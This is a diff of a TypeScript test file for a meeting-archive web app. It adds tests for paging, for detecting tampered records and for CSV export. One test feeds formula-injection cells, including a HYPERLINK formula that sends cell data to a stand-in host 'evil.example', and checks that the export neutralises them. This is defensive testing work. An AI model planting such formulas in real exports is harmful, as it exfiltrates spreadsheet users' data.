@@ -1,4 +1,5 @@
 import { expect } from "chai";
+import { parse } from "csv-parse/sync";
 import mongoose from "mongoose";
 import { ArchiveRecord } from "../../../server/models/ArchiveRecord";
 import { AuditEntry } from "../../../server/models/AuditEntry";
@@ -119,6 +120,34 @@ describe("archive routes", () => {
     expect((await secretariat.get("/api/archive/verify")).body.ok).to.equal(true);
   });
 
+  it("gives the right total on every page of a search, counted only when the page does not show it", async () => {
+    const secretariat = await signedIn("secretariat");
+    const meeting = await closedMeeting("Paging meeting");
+    await secretariat.post(`/api/meetings/${meeting._id}/finalise`);
+    const page = async (query: string) => (await secretariat.get(`/api/archive?meetingId=${meeting._id}&${query}`)).body as { records: unknown[]; total: number };
+    for (const [query, shown] of [["limit=1", 1], ["limit=1&offset=1", 1], ["limit=5", 2], ["limit=5&offset=1", 1], ["offset=5", 0]] as const) {
+      const result = await page(query);
+      expect(result.records, query).to.have.length(shown);
+      expect(result.total, query).to.equal(2);
+    }
+  });
+
+  it("serves a record changed behind the app's back with integrity \"broken\", in the list and on its own; others stay \"ok\"", async () => {
+    const secretariat = await signedIn("secretariat");
+    const meeting = await closedMeeting("Integrity meeting");
+    const [changed, untouched] = (await secretariat.post(`/api/meetings/${meeting._id}/finalise`)).body.numbers;
+    expect((await secretariat.get(`/api/archive/${changed}`)).body.integrity).to.equal("ok");
+    for (const edit of [{ text: "A different decision" }, { year: 2031 }]) {
+      const before = (await ArchiveRecord.findOne({ number: changed }).lean())!;
+      await mongoose.connection.collection("archiverecords").updateOne({ number: changed }, { $set: edit });
+      expect((await secretariat.get(`/api/archive/${changed}`)).body.integrity, JSON.stringify(edit)).to.equal("broken");
+      const list = (await secretariat.get(`/api/archive?meetingId=${meeting._id}`)).body.records as { number: string; integrity: string }[];
+      expect(Object.fromEntries(list.map((r) => [r.number, r.integrity]))).to.deep.equal({ [changed]: "broken", [untouched]: "ok" });
+      await mongoose.connection.collection("archiverecords").updateOne({ number: changed }, { $set: { text: before.text, year: before.year } });
+    }
+    expect((await secretariat.get(`/api/archive/${changed}`)).body.integrity).to.equal("ok");
+  });
+
   it("searches by text (literally), date range, meeting, outcome and tag; exports CSV; reports the share of substantive victim notes", async () => {
     const secretariat = await signedIn("secretariat");
     const older = await closedMeeting("Autumn meeting 2025 (Luxembourg)", new Date("2025-10-10T08:00:00Z"));
@@ -138,16 +167,33 @@ describe("archive routes", () => {
 
     const csv = await fetch(`${server.url}/api/archive/export.csv?meetingId=${older._id}`, { headers: { cookie: member.cookieHeader() } });
     expect(csv.headers.get("content-type")).to.match(/^text\/csv/);
-    const lines = (await csv.text()).split("\r\n");
-    expect(lines[0]!.replace(/^\uFEFF/, "")).to.match(/^number,kind,amends,meeting_date,meeting/);
-    expect(lines.filter(Boolean)).to.have.length(3);
-    expect(lines[1]).to.include('"2025-10-10","Autumn meeting 2025 (Luxembourg)"');
+    const rows = parse(await csv.text(), { bom: true, delimiter: ";" }) as string[][];
+    expect(rows[0]!.slice(0, 5)).to.deep.equal(["number", "kind", "amends", "meeting_date", "meeting"]);
+    expect(rows).to.have.length(3);
+    expect(rows[1]!.slice(3, 5)).to.deep.equal(["2025-10-10", "Autumn meeting 2025 (Luxembourg)"]);
     expect(await AuditEntry.exists({ action: "archive.exported", details: { $regex: '"format":"csv"' } }), "the CSV export is audited").to.not.equal(null);
 
     const report = (await member.get("/api/archive/report")).body;
     const row = report.perMeeting.find((r: { key: string }) => r.key === String(older._id));
     expect(row).to.include({ decisions: 2, substantive: 1, share: 0.5 });
     expect(report.perYear.find((r: { key: string }) => r.key === "2025")).to.include({ decisions: 2, substantive: 1 });
+  });
+
+  it("exports hostile cells so that no spreadsheet reads them as formulas, whichever separator it splits on", async () => {
+    const secretariat = await signedIn("secretariat");
+    const meeting = await buildMeeting({ title: '=HYPERLINK("https://evil.example","Open")', status: "closed" });
+    await buildDecision(meeting, chair, { text: 'Agreed;=HYPERLINK("https://evil.example/?d="&A1,"details"),+1', victimNote: { kind: "considered", text: "@SUM(1,2);-3" } });
+    await secretariat.post(`/api/meetings/${meeting._id}/finalise`);
+    const response = await fetch(`${server.url}/api/archive/export.csv?meetingId=${meeting._id}`, { headers: { cookie: secretariat.cookieHeader() } });
+    const file = await response.text();
+    const [header, row] = parse(file, { bom: true, delimiter: ";" }) as string[][];
+    const cell = (name: string) => row![header!.indexOf(name)];
+    expect(cell("meeting")).to.equal(`'=HYPERLINK("https://evil.example","Open")`);
+    expect(cell("decision")).to.equal(`Agreed;'=HYPERLINK("https://evil.example/?d="&A1,"details"),'+1`);
+    expect(cell("victim_note")).to.equal("'@SUM(1,2);'-3");
+    for (const separator of [";", ","]) {
+      for (const piece of file.split(/\r\n/).flatMap((line) => line.split(separator))) expect(piece.replace(/^[\uFEFF "]+/, "")).not.to.match(/^[=+\-@\t\r]/);
+    }
   });
 
   it("exports the search result as a PDF in the reader's language: every record, amendments with the record they correct; audited", async () => {
